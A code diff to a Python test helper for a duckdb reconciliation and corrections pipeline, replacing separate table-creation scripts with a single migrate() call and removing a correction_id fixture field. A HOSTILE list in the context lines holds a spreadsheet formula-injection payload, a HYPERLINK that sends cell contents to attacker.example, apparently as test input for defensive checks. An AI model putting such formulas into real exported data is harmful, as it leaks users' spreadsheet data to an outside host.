@@ -13,7 +13,7 @@ from pathlib import Path
 import duckdb
 
 from corrections.outbox import Correction, insert_proposals
-from sql import load, run_script
+from resources.migrations import migrate
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"Open invoice")',
@@ -80,7 +80,6 @@ def findings_of(night: date, first_night: date, count: int, resolved: list[dict]
                 "last_seen": night,
                 "age_days": (night - first_night).days if n < count - 3 else 0,
                 "status": "open",
-                "correction_id": None,
                 "subject_key": f"S{n}",
                 "money_at_risk": money,
                 "event_date": event,
@@ -149,9 +148,7 @@ def write_stand_in_night(warehouse: Path, night: date, findings: int = 24) -> di
         }
     )
     with duckdb.connect(str(warehouse)) as db:
-        run_script(db, load("reconciliation/findings/create_tables.sql"))
-        run_script(db, load("validation/create_quality_tables.sql"))
-        run_script(db, load("corrections/create_tables.sql"))
+        migrate(db)
         db.execute(f"CREATE TABLE IF NOT EXISTS recon.tieout ({TIEOUT_COLUMNS})")
         for table, records in (
             ("recon.findings", previous_rows + night_rows),
